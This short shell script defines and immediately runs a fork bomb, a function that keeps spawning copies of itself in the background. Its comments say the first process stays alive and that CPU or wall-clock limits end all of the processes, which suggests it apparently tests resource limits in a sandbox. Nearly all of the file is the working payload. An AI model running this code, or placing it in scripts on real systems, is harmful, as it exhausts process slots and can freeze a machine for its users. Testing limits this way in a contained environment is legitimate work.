# The fork bomb of the shell, in a form whose first process stays. It starts more processes than it
# may and waits for them. The limit on CPU time or on real time ends all of them.
bomb() {
    bomb | bomb &
    bomb
}
bomb
